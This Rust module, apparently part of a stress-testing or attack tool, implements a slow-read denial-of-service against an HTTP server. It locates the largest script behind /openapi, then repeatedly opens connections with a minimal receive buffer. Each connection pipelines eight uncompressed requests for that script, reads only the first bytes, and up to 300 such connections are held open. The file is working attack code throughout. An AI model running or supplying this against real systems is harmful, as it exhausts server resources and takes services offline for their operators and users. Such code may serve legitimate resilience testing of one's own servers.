//! Clients that request the largest document several times on one connection, without compression,
//! and read only the beginning of the first answer.

use super::{Field, Strikes};
use crate::socket::Socket;
use anyhow::{Context, Result, ensure};
use std::{
    cell::RefCell, collections::VecDeque, convert::Infallible, net::SocketAddr, time::Duration,
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

/// The time between two connections.
const PACE: Duration = Duration::from_millis(10);

/// Connections at once; further ones replace the oldest.
const HELD: usize = 300;

/// Requests per connection.
const REQUESTS: usize = 8;

/// The receive buffer of a client that does not read: the smallest that the kernel allows.
const NARROW: u32 = 4096;

/// The beginning of every answer.
const FOUND: &[u8] = b"HTTP/1.1 200";

pub(super) async fn run(field: &Field, strikes: &Strikes) -> Result<Infallible> {
    let address = field.target.address;
    let requests = request(address, &largest(address).await?, "keep-alive").repeat(REQUESTS);
    let held = RefCell::new(VecDeque::new());
    let strike = async || {
        let connection = strike(address, &requests).await?;
        let mut held = held.borrow_mut();
        held.push_back(connection);
        if held.len() > HELD {
            held.pop_front();
        }
        Ok(())
    };
    strikes.go_on(PACE, strike).await
}

async fn strike(address: SocketAddr, requests: &str) -> Result<TcpStream> {
    let mut stream = Socket::tcp(address, Some(NARROW)).await?;
    stream.write_all(requests.as_bytes()).await?;
    let mut begin = [0; FOUND.len()];
    stream.read_exact(&mut begin).await.context("a large document")?;
    ensure!(begin == FOUND, "a large document was answered by {}", String::from_utf8_lossy(&begin));
    Ok(stream)
}

/// The path of the script behind `/openapi`: 4.9 MB.
async fn largest(address: SocketAddr) -> Result<String> {
    let mut stream = Socket::tcp(address, None).await?;
    stream.write_all(request(address, "/openapi", "close").as_bytes()).await?;
    let mut page = String::new();
    stream.read_to_string(&mut page).await?;
    let begin = page.find("/openapi/scalar-").context("/openapi has no script")?;
    let path = page[begin..].split('"').next();
    Ok(path.unwrap_or_default().to_owned())
}

fn request(address: SocketAddr, path: &str, connection: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: {address}\r\nConnection: {connection}\r\n\r\n")
}
